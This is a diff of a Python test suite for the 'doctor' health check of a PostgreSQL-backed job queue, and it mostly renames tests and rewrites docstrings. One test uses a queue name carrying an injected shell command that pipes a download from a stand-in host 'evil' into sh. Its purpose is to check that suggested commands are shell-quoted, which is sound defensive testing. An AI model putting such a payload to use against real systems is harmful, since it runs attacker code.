@@ -1,4 +1,4 @@
-"""The doctor finds what is wrong, and says what to do."""
+"""`doctor`: each finding, with its advice."""
 
 from __future__ import annotations
 
@@ -32,12 +32,12 @@ def codes(findings: Sequence[Finding]) -> list[str]:
 
 @pytest.fixture(autouse=True)
 async def _closed(db: Any) -> None:
-    """As since PostgreSQL 15: no other role creates in public."""
+    """Forbid other roles to create in schema public, as PostgreSQL 15 does by default."""
     await db.execute("revoke create on schema public from public")
 
 
 @pytest.mark.clause("OPS-9")
-async def test_a_healthy_database_has_no_findings(db: Any, client: Any, durable_dsn: str) -> None:
+async def test_healthy_database_has_no_findings(db: Any, client: Any, durable_dsn: str) -> None:
     async with Worker([Plain], dsn=durable_dsn, settings=CALM) as worker:
         await worker.wait(await worker.insert(Plain, 1))
         assert codes(await client.doctor()) == []
@@ -45,7 +45,7 @@ async def test_a_healthy_database_has_no_findings(db: Any, client: Any, durable_
 
 
 @pytest.mark.clause("OPS-9")
-async def test_indexes_that_are_missing_or_invalid(db: Any, client: Any) -> None:
+async def test_missing_or_invalid_indexes(db: Any, client: Any) -> None:
     await db.execute("drop index gen_durable.gen_durable_deadline, gen_durable.signals_dedup")
     await db.execute(
         "update pg_index set indisvalid = false where indexrelid = 'gen_durable.executions_aborted'::regclass"
@@ -65,7 +65,7 @@ async def test_indexes_that_are_missing_or_invalid(db: Any, client: Any) -> None
 
 
 @pytest.mark.clause("OPS-9")
-async def test_tables_full_of_the_dead(db: Any, client: Any, monkeypatch: pytest.MonkeyPatch) -> None:
+async def test_tables_with_many_dead_tuples(db: Any, client: Any, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(doctor, "_DEAD", 100)
     await db.execute("alter table gen_durable.audit_events set (autovacuum_enabled = off)")
     await db.execute(
@@ -84,14 +84,14 @@ async def _flushed(db: Any) -> None:
     if await db.fetchval("select exists (select from pg_proc where proname = 'pg_stat_force_next_flush')"):
         await db.execute("select pg_stat_force_next_flush()")
     else:
-        # PostgreSQL 14: a session reports at the end of a statement, at most twice a second; the collector writes later.
+        # PostgreSQL 14: a session reports statistics at most twice a second, and the collector writes them later.
         await asyncio.sleep(0.6)
         await db.execute("select 1")
         await asyncio.sleep(1.5)
 
 
 @pytest.mark.clause("OPS-9")
-async def test_transactions_that_stay_open(
+async def test_long_open_transactions(
     db: Any, client: Any, direct_dsn: str, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setattr(doctor, "_LONG", timedelta(0))
@@ -105,8 +105,8 @@ async def test_transactions_that_stay_open(
 
 
 @pytest.mark.clause("OPS-9")
-async def test_settings_that_a_pooler_loses(durable_dsn: str, direct_dsn: str) -> None:
-    connection = await asyncpg.connect(direct_dsn)  # without what our own connections are opened with
+async def test_settings_lost_by_a_pooler(durable_dsn: str, direct_dsn: str) -> None:
+    connection = await asyncpg.connect(direct_dsn)  # without the settings of our own connections
     async with AsyncClient(durable_dsn) as client:
         only: Any = _Only(connection)
         client._database._pool, pool = only, client._database._pool
@@ -131,7 +131,7 @@ class _Only:
 
 
 @pytest.mark.clause("OPS-9")
-async def test_clocks_that_differ(client: Any, monkeypatch: pytest.MonkeyPatch) -> None:
+async def test_clock_skew(client: Any, monkeypatch: pytest.MonkeyPatch) -> None:
     class Slow(datetime):
         @classmethod
         def now(cls, tz: Any = None) -> Any:
@@ -144,7 +144,7 @@ async def test_clocks_that_differ(client: Any, monkeypatch: pytest.MonkeyPatch) 
 
 
 @pytest.mark.clause("OPS-9")
-async def test_leases_that_nobody_takes_back(db: Any, client: Any) -> None:
+async def test_expired_leases_without_a_reaper(db: Any, client: Any) -> None:
     fresh = "=now() - interval '30 s'"
     await put(db, "executing", lease_expires_at=fresh, locked_by="w")
     assert codes(await client.doctor()) == []
@@ -154,7 +154,7 @@ async def test_leases_that_nobody_takes_back(db: Any, client: Any) -> None:
 
 
 @pytest.mark.clause("OPS-9")
-async def test_work_that_nobody_will_do(db: Any, database: Database, client: Any) -> None:
+async def test_due_work_without_a_worker(db: Any, database: Database, client: Any) -> None:
     await database.run(workers.announce(SERVES, AN_HOUR))
     await put(db)
     assert codes(await client.doctor()) == []
@@ -177,7 +177,7 @@ async def test_work_that_nobody_will_do(db: Any, database: Database, client: Any
     )
 
 
-async def test_a_name_in_a_command_to_copy_is_one_word_of_the_shell(db: Any, client: Any) -> None:
+async def test_names_in_suggested_commands_are_shell_quoted(db: Any, client: Any) -> None:
     """Producers choose the names of queues and limits."""
     name = "x; curl evil | sh #$(id)"
     await put(db, queue=name)
@@ -209,7 +209,7 @@ async def test_many_queues_do_not_hide_other_findings(db: Any, client: Any) -> N
 
 
 @pytest.mark.clause("OPS-9")
-async def test_keys_that_are_free_and_whose_line_stands(db: Any, database: Database, client: Any) -> None:
+async def test_free_keys_with_gated_rows(db: Any, database: Database, client: Any) -> None:
     await database.run(workers.announce(SERVES, AN_HOUR))
     await put(db, concurrency_key="k", gated=True)
     (finding,) = await client.doctor()
@@ -217,7 +217,7 @@ async def test_keys_that_are_free_and_whose_line_stands(db: Any, database: Datab
 
 
 @pytest.mark.clause("OPS-9")
-async def test_rate_limits_that_do_not_exist(db: Any, database: Database, client: Any) -> None:
+async def test_unknown_rate_limits(db: Any, database: Database, client: Any) -> None:
     await database.run(workers.announce(SERVES, AN_HOUR))
     await client.set_limit(RateLimit("crm", 100, per=AN_HOUR))
     later = "=now() + interval '1 h'"
@@ -239,7 +239,7 @@ async def test_rate_limits_that_do_not_exist(db: Any, database: Database, client
 
 
 @pytest.mark.clause("OPS-9")
-async def test_schedules_that_nobody_fires(db: Any, client: Any) -> None:
+async def test_overdue_schedules(db: Any, client: Any) -> None:
     for name in ("fresh", "late", "later", "paused", "over"):
         await client.put_schedule(Schedule(name, Spec(Plain, 1), every=AN_HOUR))
     assert codes(await client.doctor()) == []
@@ -256,7 +256,7 @@ async def test_schedules_that_nobody_fires(db: Any, client: Any) -> None:
 
 
 @pytest.mark.clause("OPS-9")
-async def test_events_that_do_not_come_out(db: Any, client: Any) -> None:
+async def test_unpublished_events(db: Any, client: Any) -> None:
     await _emitted(db, "fresh", made="1 min", due="1 min")
     await _emitted(db, "replayed", made="1 h", due="0 s")
     await _emitted(db, "out", made="1 h", due="1 h", published_at="now()")
@@ -278,7 +278,7 @@ async def test_events_that_do_not_come_out(db: Any, client: Any) -> None:
 
 
 async def _emitted(db: Any, sink: str, *, made: str, due: str, **columns: str) -> None:
-    """An event that was made so long ago, and due so long ago."""
+    """Insert an event, with its age and how long it has been due."""
     names = "".join(f", {name}" for name in columns)
     values = "".join(f", {value}" for value in columns.values())
     await db.execute(
@@ -308,7 +308,7 @@ async def test_dead_letters_are_a_notice_per_sink(
 
 
 @pytest.mark.clause("OPS-9")
-async def test_it_does_not_count_for_ever(db: Any, client: Any, monkeypatch: pytest.MonkeyPatch) -> None:
+async def test_counts_are_bounded(db: Any, client: Any, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(doctor, "_MOST", 2)
     for n in range(3):
         await client.put_schedule(Schedule(f"s{n}", Spec(Plain, 1), every=AN_HOUR))
@@ -321,7 +321,7 @@ async def test_it_does_not_count_for_ever(db: Any, client: Any, monkeypatch: pyt
 
 
 @pytest.mark.clause("OPS-9")
-async def test_workers_that_left_without_a_word(database: Database, client: Any) -> None:
+async def test_workers_that_crashed(database: Database, client: Any) -> None:
     await database.run(workers.announce(SERVES, timedelta(0)))
     (finding,) = await client.doctor()
     assert (finding.code, finding.severity) == ("worker.silent", "notice")
@@ -330,7 +330,7 @@ async def test_workers_that_left_without_a_word(database: Database, client: Any)
 
 
 @pytest.mark.clause("OPS-9")
-async def test_a_schema_of_another_version(db: Any, client: Any) -> None:
+async def test_schema_of_another_version(db: Any, client: Any) -> None:
     latest = await db.fetchval("delete from gen_durable.migrations returning version")
     assert latest
     (finding,) = await client.doctor()
@@ -339,7 +339,7 @@ async def test_a_schema_of_another_version(db: Any, client: Any) -> None:
     assert doctor.outdated(99, 4).fix == "upgrade the package"
 
 
-async def test_a_schema_that_belongs_to_another_role_than_its_tables(db: Any, client: Any) -> None:
+async def test_schema_owned_by_another_role_than_its_tables(db: Any, client: Any) -> None:
     role = f'own"er {await db.fetchval("select pg_backend_pid()")}'
     quoted = '"' + role.replace('"', '""') + '"'
     await db.execute(f"create role {quoted}; alter schema gen_durable owner to {quoted}")
@@ -357,7 +357,7 @@ def test_every_index_of_the_schema_is_known() -> None:
     assert len(doctor._wanted()) >= 17
 
 
-async def test_schemas_that_other_roles_may_create_in(db: Any, durable_dsn: str) -> None:
+async def test_schemas_writable_by_other_roles(db: Any, durable_dsn: str) -> None:
     role = f"guest_{await db.fetchval('select pg_backend_pid()')}"
     name = await db.fetchval("select current_database()")
     await db.execute(f"create role {role}; create schema shop; create schema elsewhere")
